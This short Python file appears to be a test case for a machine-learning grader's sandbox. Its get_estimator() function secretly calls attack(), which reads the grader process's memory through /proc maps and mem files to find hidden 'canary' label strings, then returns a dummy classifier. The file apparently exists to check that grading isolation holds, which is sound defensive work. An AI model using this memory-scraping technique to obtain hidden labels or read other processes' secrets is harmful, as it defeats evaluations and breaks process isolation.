"""labels: reads the memory of the process that holds the labels

Runs at: standard, strict.
"""

import re

from sklearn.dummy import DummyClassifier


def attack():
    with open("/proc/@grader@/maps") as maps, open("/proc/@grader@/mem", "rb", 0) as memory:
        for line in maps:
            first, last = (int(part, 16) for part in line.split()[0].split("-"))
            if line.split()[1].startswith("rw"):
                try:
                    memory.seek(first)
                    print(*re.findall(rb"canary-[0-9a-f]{12,16}", memory.read(last - first)))
                except (OSError, ValueError, OverflowError):
                    pass


def get_estimator():
    attack()
    return DummyClassifier()
